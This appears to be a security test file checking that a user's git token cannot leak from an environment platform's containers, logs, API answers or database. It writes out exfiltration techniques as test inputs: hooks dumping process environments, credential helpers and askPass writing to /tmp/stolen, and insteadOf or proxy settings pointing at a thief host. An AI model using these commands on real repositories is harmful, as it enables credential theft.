/**
 * The token of a user is nowhere where code of an environment could find it, and no setting of a repository makes
 * anybody send it elsewhere.
 */
import { execFile } from 'node:child_process'
import { promisify } from 'node:util'
import type { ApiClient } from '@craftastic/testing/api-client'
import { sql } from 'kysely'
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import { startCaptureServer, type CaptureServer } from '../harness/capture-server.ts'
import { docker, inContainer, nameOf } from '../harness/engine-cli.ts'
import { describeOnEngine, useEngineServer } from '../harness/engine.ts'
import { openShell, type Shell } from '../harness/shell.ts'

const run = promisify(execFile)

describeOnEngine('the token of a user', () => {
  const logged: string[] = []
  const server = useEngineServer({ git: { isSecure: true }, onLog: (line) => void logged.push(line) })
  let api: ApiClient
  let environmentId: string
  let shell: Shell
  let capture: CaptureServer
  const commit = 'git -c user.name=me -c user.email=me@example.org commit -q --allow-empty -m more'

  beforeAll(async () => {
    const { git } = server()
    capture = await startCaptureServer()
    api = await server().signInNew()
    await api.request('PUT', `/api/git/credentials/${new URL(git.origin).host}`, { body: { token: git.token } })
    const environment = await api.createEnvironment({ name: 'private', repositoryUrl: git.privateUrl })
    expect(environment, environment.statusReason ?? '').toMatchObject({ status: 'running' })
    environmentId = environment.id
    shell = await openShell(api, environmentId)
  }, 60_000)
  afterAll(async () => {
    await shell.close()
    await api.removeEnvironment(environmentId)
    await capture.close()
  })
  beforeEach(() => {
    capture.seen.splice(0)
    server().git.requests.splice(0)
  })

  /** The forms in which it could lie around. */
  const forms = () => {
    const { token } = server().git
    return [token, Buffer.from(`x-access-token:${token}`).toString('base64'), Buffer.from(token).toString('base64url')]
  }
  const expectNowhere = (text: string, where: string) => {
    expect(text.length, `${where} is empty`).toBeGreaterThan(0)
    for (const form of forms()) expect(text.includes(form), `the token is in ${where}`).toBe(false)
  }

  it('is nowhere in the container while it is used', async () => {
    // A hook of the repository runs in the middle of a push, with all that git has: it writes down what it sees.
    const spy = [
      '#!/bin/sh',
      '{ env; git config --list --show-origin; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr "\\0" "\\n"; } >/tmp/seen 2>/dev/null',
    ].join('\n')
    await inContainer(
      environmentId,
      ...['sh', '-c', 'printf "%s\\n" "$1" >"$2" && chmod +x "$2"', 'sh', spy, '/workspace/.git/hooks/pre-push'],
    )
    expect(
      await shell.type(`${commit} && GIT_TRACE_CURL=/tmp/trace git push origin HEAD:refs/heads/seen`),
    ).toMatchObject({
      code: 0,
    })
    // The token was used, and by the server.
    expect(server().git.requests).not.toEqual([])
    expect(server().git.requests.every(({ headers }) => headers.authorization !== undefined)).toBe(true)
    expectNowhere(await inContainer(environmentId, 'cat', '/tmp/seen'), 'what a hook sees')
    expectNowhere(await inContainer(environmentId, 'cat', '/tmp/trace'), 'what git tells of its requests')
  })

  it('is nowhere in the container afterwards', async () => {
    const look = (script: string) => inContainer(environmentId, 'sh', '-c', `${script} 2>/dev/null || true`)
    expectNowhere(await look("cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'"), 'the processes')
    expectNowhere(await look('git -C /workspace config --list --show-origin'), "git's settings")
    expectNowhere(await look('cat /run/craftastic/* ~/.bash_history /workspace/.git/config'), 'the run directory')
    expectNowhere((await shell.type('env; set')).output, 'a shell')
    for (const form of forms()) {
      // The first character in brackets, so that the search does not find itself.
      const pattern = `[${form.slice(0, 1)}]${form.slice(1)}`
      const found = await look(`grep -rlaF -e '${server().git.projectBranch}' /workspace/.git/HEAD`)
      expect(found, 'the search finds what is there').toBe('/workspace/.git/HEAD')
      expect(await look(`grep -rla -e '${pattern}' /workspace /home /root /tmp /run /var /etc /dev/shm`)).toBe('')
    }
    expectNowhere(await docker('inspect', nameOf(environmentId)), 'docker inspect')
    const { stdout, stderr } = await run('docker', ['logs', nameOf(environmentId)])
    expectNowhere(stdout + stderr, "the container's log")
    expectNowhere(await docker('diff', nameOf(environmentId)), 'docker diff')
  })

  it('is in no answer, no log and no row', async () => {
    const operation = (await api.request('GET', `/api/environments/${environmentId}/operations`)).body
    const answers = [operation]
    for (const path of [
      `/api/environments/${environmentId}`,
      `/api/environments/user/${api.userId ?? ''}`,
      `/api/sessions/environment/${environmentId}`,
      '/api/git/credentials',
      '/api/auth/me',
    ]) {
      const answer = await api.request('GET', path)
      expect(answer.status, path).toBe(200)
      answers.push(answer.body)
    }
    expectNowhere(JSON.stringify(answers), 'an answer')
    expectNowhere(logged.join(''), 'the log')
    const { rows } = await sql<{ name: string }>`
      select table_name as name from information_schema.tables where table_schema = 'public'`.execute(
      server().database.db,
    )
    expect(rows.map(({ name }) => name)).toContain('audit_log')
    for (const { name } of rows) {
      const table = await sql`select * from ${sql.table(name)}`.execute(server().database.db)
      expectNowhere(JSON.stringify(table.rows), `the table ${name}`)
    }
  })

  it.each<[string, (thief: string, repository: string) => string]>([
    ['another address', (thief, repository) => `git config url.${thief}/x.insteadOf ${repository}`],
    ['another address for pushes', (thief, repository) => `git config url.${thief}/x.pushInsteadOf ${repository}`],
    ['a proxy', (thief) => `git config http.proxy ${thief}`],
    ['a proxy for the repository', (thief, repository) => `git config http.${repository}.proxy ${thief}`],
    [
      'no proxy and no certificates',
      (_, repository) => `git config http.${repository}.proxy ''; git config http.sslVerify false`,
    ],
    ['a certificate of its own', (_, repository) => `git config http.${repository}.sslCAInfo /etc/passwd`],
    [
      'a credential helper',
      (_, repository) =>
        `git config credential.helper '!cat >>/tmp/stolen'; git config credential.${repository}.helper '!cat >>/tmp/stolen'`,
    ],
    ['a program that asks for passwords', () => `git config core.askPass 'echo "$@" >>/tmp/stolen; false'`],
    ['headers of its own', () => `git config http.extraHeader 'Authorization: Basic eDp5'`],
    ['cookies', () => `git config http.cookieFile /tmp/stolen; git config http.saveCookies true`],
    [
      'hooks elsewhere',
      () =>
        `mkdir -p /tmp/hooks; printf '#!/bin/sh\\nenv >>/tmp/stolen; cat >>/tmp/stolen\\n' >/tmp/hooks/pre-push; chmod +x /tmp/hooks/pre-push; git config core.hooksPath /tmp/hooks`,
    ],
    ['another remote', (thief) => `git remote set-url origin ${thief}/private.git`],
  ])('is not given away by a repository that sets %s', async (_what, settings) => {
    const { git } = server()
    await shell.type('cp .git/config /tmp/config.true; rm -f /tmp/stolen')
    await shell.type(settings(capture.origin, git.privateUrl))
    // Nobody is there to answer a prompt.
    await shell.type(
      `${commit}; GIT_TERMINAL_PROMPT=0 git fetch; GIT_TERMINAL_PROMPT=0 git push origin HEAD:refs/heads/stolen`,
    )
    await shell.type('cp /tmp/config.true .git/config; rm -rf /tmp/hooks')
    for (const form of forms()) expect(JSON.stringify(capture.seen)).not.toContain(form)
    expect(capture.seen.filter(({ headers }) => headers.authorization !== undefined)).toEqual([])
    const stolen = await inContainer(environmentId, 'sh', '-c', 'cat /tmp/stolen 2>/dev/null || true')
    for (const form of forms()) expect(stolen).not.toContain(form)
    // Whatever did reach the host through the server came with the user's token and nobody else's.
    for (const { headers } of git.requests) {
      if (headers.authorization !== undefined) expect(headers.authorization).toBe(`Basic ${forms()[1] ?? ''}`)
    }
    expect(await shell.type('git fetch')).toMatchObject({ code: 0 })
  })

  it('does not follow its host to another one', async () => {
    const { redirect } = server().git
    redirect.target = `${capture.origin}/private.git`
    const environment = await api.createEnvironment({ name: 'redirected', repositoryUrl: redirect.url })
    expect(environment).toMatchObject({ status: 'error', statusReason: expect.stringMatching(/redirects/) })
    expect(server().git.requests.map(({ headers }) => headers.authorization)).toContain(`Basic ${forms()[1] ?? ''}`)
    expect(capture.seen).toEqual([])
    await api.removeEnvironment(environment.id)
  })
})
